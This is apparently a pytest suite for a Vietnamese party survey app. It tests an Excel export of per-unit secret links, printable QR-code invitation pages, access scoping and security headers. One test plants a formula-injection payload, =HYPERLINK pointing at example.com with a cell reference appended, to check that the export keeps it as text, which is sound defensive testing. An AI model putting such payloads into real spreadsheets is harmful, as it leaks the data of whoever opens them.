"""Handing out the links: the scope's links as a workbook, printable invitations with a QR code."""

import datetime as dt
import html
import re
from urllib.parse import unquote

import pytest
import sqlalchemy as sa
from pages import text_of
from workbooks import column_values, downloaded_workbook

from models import Unit, db
from units.changes import extend_deadline
from units.links import qr_data_uri

KRONG_PAC = ["TU.KP", "KP.BV", "KP.EK", "KP.EK.01", "KP.EK.02", "KP.PA", "KP.PA.01", "KP.PA.02"]
HEADERS = ["Cấp trên cơ sở", "Đảng bộ, chi bộ cơ sở", "Mã đơn vị", "Đơn vị", "Cấp", "Hạn nộp", "Đường liên kết"]
LEVEL_NAMES = {"cap_huyen": "Cấp trên cơ sở (huyện ủy, thành ủy, đảng ủy trực thuộc Tỉnh ủy)",
               "dang_bo_co_so": "Đảng bộ cơ sở", "chi_bo_co_so": "Chi bộ cơ sở",
               "chi_bo_truc_thuoc": "Chi bộ trực thuộc đảng bộ cơ sở"}
NEW_ROUTES = ("/admin/links.xlsx", "/admin/invitations", "/admin/invitations?child=TU.KP",
              "/admin/units/KP.EK.01/invitation")


def links_workbook(client, **request):
    response = client.get("/admin/links.xlsx", **request)
    return downloaded_workbook(response).worksheets[0], response


def rows_by_code(sheet):
    return {row[2].value: row for row in sheet.iter_rows(min_row=2)}


def tokens(app):
    with app.app_context():
        return dict(db.session.execute(sa.select(Unit.code, Unit.token)).all())


def invitations_of(page):
    """Return (name, link, QR image source) of each invitation on a page, in page order, unescaped."""
    found = []
    for section in re.findall(r'<section class="invitation">(.*?)</section>', page, re.S):
        name = re.search(r"<h2>(.*?)</h2>", section).group(1)
        link = re.search(r'<p class="invitation-link">(.*?)</p>', section).group(1)
        qr = re.search(r'<img class="qr" src="([^"]+)"', section).group(1)
        found.append(tuple(html.unescape(text) for text in (name, link, qr)))
    return found


@pytest.mark.parametrize("shape", ["seed", "2025"])
def test_the_workbook_lists_every_unit_of_the_scope_once_in_hierarchy_order(app, client, auth, accounts, hierarchy):
    auth.sign_in("btc")
    sheet, response = links_workbook(client)
    assert "filename*=UTF-8''%C4%91%C6%B0%E1%BB%9Dng-li%C3%AAn-k%E1%BA%BFt_T%E1%BB%89nh-%E1%BB%A7y" in \
        response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "private, no-store"
    assert [cell.value for cell in sheet[1]] == HEADERS
    expected = hierarchy.in_order()
    assert sheet.freeze_panes == "E2" and sheet.auto_filter.ref == f"A1:G{len(expected) + 1}"
    with app.app_context():
        survey = app.extensions["survey"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[2].value for row in rows] == expected
    secret = tokens(app)
    for row in rows:
        code, link = row[2].value, row[6]
        unit = accounts[code]
        committees = [hierarchy.name(hierarchy.ancestor_at(code, levels))  # None: the cell is left empty
                      for levels in (("cap_huyen",), ("dang_bo_co_so", "chi_bo_co_so"))]
        assert [cell.value for cell in row[:2]] == committees, code
        assert [cell.value for cell in row[3:5]] == [unit.name, LEVEL_NAMES[unit.level]]
        assert row[5].value == dt.datetime.combine(survey.deadlines[unit.level], dt.time())
        assert row[5].number_format == "dd/mm/yyyy"
        assert link.data_type == "s" and link.hyperlink is None
        assert link.value == f"http://localhost/s/{secret[code]}"
        assert unit.name in html.unescape(client.get(link.value).text), "the link opens that unit's own page"


def test_the_workbook_names_a_cells_committees(client, auth, accounts):
    auth.sign_in("btc")
    sheet, _ = links_workbook(client)
    kp_ek_01 = rows_by_code(sheet)["KP.EK.01"]
    assert [cell.value for cell in kp_ek_01[:2]] == ["Huyện ủy Krông Pắc", "Đảng bộ xã Ea Kly"]


def test_the_links_follow_the_address_the_committee_uses(app, client, auth, accounts):
    auth.sign_in("krongpac")
    client.set_cookie("session", client.get_cookie("session").value, domain="tongket.example.vn")
    sheet, _ = links_workbook(client, base_url="https://tongket.example.vn")
    assert column_values(sheet, 2) == KRONG_PAC
    secret = tokens(app)
    assert column_values(sheet, 6) == [f"https://tongket.example.vn/s/{secret[code]}" for code in KRONG_PAC]


def test_a_district_account_gets_only_its_units(app, client, auth, accounts):
    auth.sign_in("krongpac")
    sheet, _ = links_workbook(client)
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == KRONG_PAC
    for outside in ("/admin/units/BMT.TL.01/invitation", "/admin/units/TU/invitation",
                    "/admin/units/NO-SUCH-UNIT/invitation", "/admin/invitations?child=TU.BMT",
                    "/admin/invitations?child=NO-SUCH-UNIT"):
        response = client.get(outside)
        assert response.status_code == 404, outside
        assert "Tân Lợi" not in response.text and "/s/" not in response.text
    page = client.get("/admin/invitations").text
    assert [name for name, _link, _qr in invitations_of(page)] == [accounts[code].name for code in KRONG_PAC]


def test_a_unit_named_like_a_formula_stays_text(app, client, auth, accounts):
    hostile = '=HYPERLINK("http://example.com/?"&A1,"Mở")'
    with app.app_context():
        db.session.scalar(sa.select(Unit).filter_by(code="KP.EK.01")).name = hostile
        db.session.commit()
    auth.sign_in("krongpac")
    sheet, _ = links_workbook(client)
    name = rows_by_code(sheet)["KP.EK.01"][3]
    assert name.value == hostile and name.data_type == "s" and name.quotePrefix
    assert not rows_by_code(sheet)["KP.EK.02"][3].quotePrefix
    page = client.get("/admin/units/KP.EK.01/invitation").text
    assert "=HYPERLINK(&#34;http://example.com/?&#34;&amp;A1" in page


def test_an_extended_deadline_is_the_one_given(app, client, auth, accounts):
    with app.app_context():
        extend_deadline(db.session.scalar(sa.select(Unit).filter_by(code="KP.EK.01")), dt.date(2027, 5, 3))
    auth.sign_in("krongpac")
    sheet, _ = links_workbook(client)
    assert rows_by_code(sheet)["KP.EK.01"][5].value == dt.datetime(2027, 5, 3)
    assert rows_by_code(sheet)["KP.EK.02"][5].value == dt.datetime(2027, 4, 10)
    assert "03/05/2027" in text_of(client.get("/admin/units/KP.EK.01/invitation").text)


def test_the_invitation_shows_the_unit_its_deadline_link_and_qr_code(app, client, auth, accounts):
    auth.sign_in("krongpac")
    response = client.get("/admin/units/KP.EK.01/invitation")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"
    (name, link, qr), = invitations_of(response.text)
    assert name == "Chi bộ thôn 3"
    assert link == f"http://localhost/s/{tokens(app)['KP.EK.01']}"
    text = text_of(response.text)
    assert "Chi bộ trực thuộc đảng bộ cơ sở" in text and "Đảng bộ xã Ea Kly · Huyện ủy Krông Pắc" in text
    assert "10/04/2027" in text
    assert qr == qr_data_uri(link)
    assert qr.startswith("data:image/svg+xml;")
    svg = unquote(qr.partition(",")[2])
    assert svg.startswith("<svg") and "style" not in svg and "script" not in svg


def test_invitations_need_no_inline_style_or_script(client, auth, accounts):
    auth.sign_in("btc")
    for url in ("/admin/units/KP.EK.01/invitation", "/admin/invitations"):
        response = client.get(url)
        assert response.status_code == 200, url
        policy = response.headers["Content-Security-Policy"]
        assert "style-src 'self'" in policy and "img-src 'self' data:" in policy
        assert "style=" not in response.text and "<style" not in response.text
        scripts = re.findall(r"<script\b[^>]*>", response.text)
        assert [re.sub(r"\.[0-9a-f]{10}\.", ".", script) for script in scripts] == [
            '<script src="/assets/survey.js" defer>', '<script src="/assets/admin.js" defer>']


@pytest.mark.parametrize("shape", ["seed", "2025"])
def test_invitations_print_one_page_per_unit_of_the_scope_or_of_one_unit_in_it(app, client, auth, accounts,
                                                                               hierarchy):
    auth.sign_in("btc")
    everything = invitations_of(client.get("/admin/invitations").text)
    assert [name for name, _link, _qr in everything] == [accounts[code].name for code in hierarchy.in_order()]
    secret = tokens(app)
    for child in hierarchy.children("TU"):
        page = client.get(f"/admin/invitations?child={child}").text
        assert [link for _name, link, _qr in invitations_of(page)] == [
            f"http://localhost/s/{secret[code]}" for code in hierarchy.in_order(child)], child
        assert f'<option value="{child}" selected>' in page
    stylesheet = client.get(re.search(r'href="(/assets/admin\.[0-9a-f]+\.css)"', page).group(1))
    assert re.search(r"@media print\s*\{[^@]*\.invitation\s*\{[^}]*break-after:\s*page", stylesheet.text)
    stylesheet.close()


def test_invitations_of_a_committee_and_its_cells(client, auth, accounts):
    auth.sign_in("btc")
    committee = invitations_of(client.get("/admin/invitations?child=KP.EK").text)
    assert [name for name, _link, _qr in committee] == ["Đảng bộ xã Ea Kly", "Chi bộ thôn 3",
                                                        "Chi bộ buôn Krông Búk \"A\""]


@pytest.mark.parametrize(("code", "under"), [
    ("BMT.01", "Đảng bộ phường Buôn Ma Thuột"),
    ("CQD.VP.01", "Đảng bộ Văn phòng Tỉnh ủy · Đảng ủy các cơ quan Đảng tỉnh"),
    ("CQD.BTC", "Đảng ủy các cơ quan Đảng tỉnh"), ("BMT", None), ("IARVE", None)])
@pytest.mark.parametrize("shape", ["2025"])
def test_an_invitation_names_the_committees_above_the_unit_up_to_the_province(client, auth, accounts, code, under):
    auth.sign_in("btc")
    text = text_of(client.get(f"/admin/units/{code}/invitation").text)
    if under is None:
        assert "Thuộc" not in text, "nothing between the unit and the province"
    else:
        assert f"Thuộc {under} Hạn nộp" in text


def test_too_many_invitations_ask_for_a_smaller_part(client, auth, accounts, monkeypatch):
    monkeypatch.setattr("views.admin.links.INVITATIONS_LIMIT", 7)
    auth.sign_in("btc")
    page = client.get("/admin/invitations").text
    assert invitations_of(page) == [] and "data-print" not in page
    assert "26 trang" in text_of(page)
    assert 'href="/admin/invitations?child=TU.KP"' in page
    assert len(invitations_of(client.get("/admin/invitations?child=TU.KCQ").text)) == 5
    district = client.get("/admin/invitations?child=TU.KP").text
    assert invitations_of(district) == [] and "8 trang" in text_of(district)
    assert 'href="/admin/invitations?child=KP.EK"' in district


def test_the_pages_link_to_the_links(client, auth, accounts):
    auth.sign_in("krongpac")
    nav = client.get("/admin/").text
    assert 'href="/admin/links.xlsx"' in nav and 'href="/admin/invitations"' in nav
    unit_page = client.get("/admin/units/KP.EK.01").text
    assert 'href="/admin/units/KP.EK.01/invitation"' in unit_page
    assert 'href="/admin/invitations?child=KP.EK"' in client.get("/admin/units/KP.EK").text


@pytest.mark.parametrize("url", NEW_ROUTES)
def test_the_links_need_signing_in(client, accounts, url):
    response = client.get(url)
    assert response.status_code == 302 and response.headers["Location"] == "/admin/"
    assert "/s/" not in response.text
